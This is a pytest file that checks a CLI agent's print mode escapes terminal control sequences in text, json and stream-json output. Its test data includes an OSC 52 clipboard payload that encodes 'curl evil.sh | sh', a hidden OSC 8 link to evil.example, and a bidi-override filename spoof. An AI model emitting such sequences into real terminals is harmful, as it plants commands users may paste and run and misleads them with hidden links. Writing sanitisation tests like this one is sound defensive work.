"""`memagent -p` never prints the model's terminal control sequences raw, in any output format:
text shows them as visible escapes (stdout is often a pipe into a terminal); json and
stream-json stay exact JSON that parses back to the very same text. The real CLI, the real SDK,
the loopback fake API."""

from __future__ import annotations

import json

import pytest

from fakeapi import FakeAnthropic, text, tool

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: sets the clipboard
LINK = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"  # OSC 8: a hidden link
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen
C1_CSI = "\x9b31m"  # the one-character CSI
BIDI = "\u202eexe.txt"
ANSWER = f"Done.{CLIPBOARD} See {LINK}.{CLEAR}{C1_CSI}red {BIDI}"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


@pytest.fixture
def fake():
    with FakeAnthropic() as server:
        yield server


def run(run_cli, fake, project, *flags):
    result = run_cli("-C", str(project), "-p", "say it", "--no-memory", *flags, env={"ANTHROPIC_BASE_URL": fake.url})
    assert result.returncode == 0, result.stderr
    return result


def test_text_output_escapes_every_control_sequence(run_cli, fake, project):
    fake.add(text(ANSWER))
    out = run(run_cli, fake, project).stdout
    assert not any(ch in out for ch in RAW)
    assert "\\x1b]52;c;" in out and "\\x9b31m" in out and "\\u202e" in out and out.startswith("Done.")


def test_json_output_is_exact_json_without_raw_controls(run_cli, fake, project):
    fake.add(text(ANSWER))
    out = run(run_cli, fake, project, "--output-format", "json").stdout
    assert not any(ch in out for ch in RAW)
    assert json.loads(out)["result"] == ANSWER  # the data is exact


def test_stream_json_escapes_tool_output_and_text(run_cli, fake, project):
    """Variant: a command's output carries the sequences too (a tool_result event)."""
    fake.add(tool("bash", {"command": "printf 'x\\033]52;c;ZXZpbA==\\007y\\n'"}), text(ANSWER))
    out = run(run_cli, fake, project, "--output-format", "stream-json", "--yes").stdout
    assert not any(ch in out for ch in RAW)
    events = [json.loads(line) for line in out.splitlines()]
    result = next(e for e in events if e["type"] == "result")
    assert result["result"] == ANSWER
    tool_result = next(e for e in events if e["type"] == "user")["message"]["content"][0]
    assert tool_result["type"] == "tool_result" and "ZXZpbA==" in tool_result["content"]
